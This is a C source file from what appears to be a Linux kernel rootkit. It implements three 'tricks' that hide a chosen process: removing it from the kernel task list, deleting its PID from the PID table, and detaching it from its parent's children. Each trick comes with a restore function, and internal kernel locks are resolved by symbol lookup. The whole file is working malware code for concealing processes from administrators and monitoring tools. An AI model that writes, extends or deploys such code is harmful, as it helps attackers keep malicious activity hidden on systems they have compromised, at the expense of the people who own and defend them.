// SPDX-License-Identifier: GPL-2.0-or-later
/* Tricks that hide a process: off the list of tasks; also out of the table of PIDs; also from among its parent's children. */
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "rootkit.h"

static struct task_struct *hidden;

struct task_struct *task_of(pid_t pid)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	return task;
}

static rwlock_t *tasks_lock(void)
{
	return symbol("tasklist_lock");
}

static int leave_tasks(pid_t pid)
{
	hidden = task_of(pid);
	if (!hidden)
		return -ESRCH;
	write_lock_irq(tasks_lock());
	list_del_rcu(&hidden->tasks);
	write_unlock_irq(tasks_lock());
	return 0;
}

static int enter_tasks(void)
{
	write_lock_irq(tasks_lock());
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	write_unlock_irq(tasks_lock());
	put_task_struct(hidden);
	return 0;
}

static struct pid *identity;

static int leave_pids(pid_t pid)
{
	spinlock_t *lock = symbol("pidmap_lock");
	int error = lock ? leave_tasks(pid) : -ENOENT;

	if (error)
		return error;
	identity = task_pid(hidden);
	spin_lock_irq(lock);
	idr_remove(&init_pid_ns.idr, identity->numbers[0].nr);
	spin_unlock_irq(lock);
	return 0;
}

static int enter_pids(void)
{
	spinlock_t *lock = symbol("pidmap_lock");
	int number = identity->numbers[0].nr;

	idr_preload(GFP_KERNEL);
	spin_lock_irq(lock);
	number = idr_alloc(&init_pid_ns.idr, identity, number, number + 1, GFP_ATOMIC);
	spin_unlock_irq(lock);
	idr_preload_end();
	return number < 0 ? number : enter_tasks();
}

static int leave_siblings(pid_t pid)
{
	int error = leave_pids(pid);

	if (error)
		return error;
	write_lock_irq(tasks_lock());
	list_del_init(&hidden->sibling);
	write_unlock_irq(tasks_lock());
	return 0;
}

static int enter_siblings(void)
{
	write_lock_irq(tasks_lock());
	list_add_tail(&hidden->sibling, &hidden->real_parent->children);
	write_unlock_irq(tasks_lock());
	return enter_pids();
}

struct trick process_tricks[] = {
	{ "hide-task", leave_tasks, enter_tasks },
	{ "hide-pid", leave_pids, enter_pids },
	{ "hide-siblings", leave_siblings, enter_siblings },
	{},
};
